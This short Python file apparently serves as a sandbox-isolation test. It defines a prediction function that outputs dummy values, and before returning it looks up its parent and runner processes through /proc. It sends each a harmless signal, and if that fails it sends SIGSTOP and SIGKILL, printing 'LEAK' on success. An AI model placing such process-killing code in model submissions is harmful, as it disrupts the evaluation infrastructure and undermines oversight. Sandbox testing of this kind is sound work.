import contextlib
import os
import pathlib
import signal

import numpy as np
import pandas as pd


def model(live_features):
    parent = os.getppid()
    runner = pathlib.Path(f"/proc/{parent}/stat").read_text().rpartition(")")[2].split()[1]
    for pid in (parent, int(runner)):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGWINCH)  # which nobody minds
            print("LEAK a signal to", pid)
            continue
        for number in (signal.SIGSTOP, signal.SIGKILL):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
                print("LEAK signal", number, "to", pid)
    return pd.DataFrame({"prediction": np.linspace(0, 1, len(live_features))}, live_features.index)
